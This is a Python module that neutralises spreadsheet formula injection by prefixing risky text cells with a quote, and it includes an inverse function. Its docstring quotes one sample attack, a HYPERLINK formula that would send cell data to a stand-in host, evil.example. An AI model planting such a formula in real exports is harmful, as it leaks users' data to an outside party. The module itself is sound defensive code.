"""Text cells that leave the app: neutralised so a spreadsheet never runs them.

A spreadsheet tool reads a cell beginning with ``= + - @``, a tab or a
carriage return as a formula (CSV/formula injection): a title named
``=HYPERLINK("http://evil.example/?q="&A1,"点击查看")`` would become a live
link in every exported workbook. As OWASP advises, such a text cell is
prefixed with a single quote ``'``; so is one already beginning with ``'``,
which makes :func:`restore_cell` its exact inverse (a plan folder read back
gives the text written). Numbers and other non-text values pass unchanged:
``-5`` in a numeric column stays the number ``-5``.

Every writer of CSV or workbook files calls :func:`spreadsheet_cell` (or
:func:`spreadsheet_text`) on each cell it writes.
"""

from __future__ import annotations

from typing import TypeVar

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula."""

QUOTE = "'"
"""The prefix that makes a spreadsheet read the cell as text."""

T = TypeVar("T")


def spreadsheet_text(text: str) -> str:
    """``text`` with ``'`` in front if it begins with a formula character (or with ``'``)."""
    if text.startswith(FORMULA_STARTS) or text.startswith(QUOTE):
        return QUOTE + text
    return text


def spreadsheet_cell(value: T) -> T | str:
    """:func:`spreadsheet_text` of a text value; any other value (numbers too) unchanged."""
    if isinstance(value, str):
        return spreadsheet_text(value)
    return value


def restore_cell(text: str) -> str:
    """The text :func:`spreadsheet_text` was given: one leading ``'`` removed, if there is one."""
    return text[1:] if text.startswith(QUOTE) else text
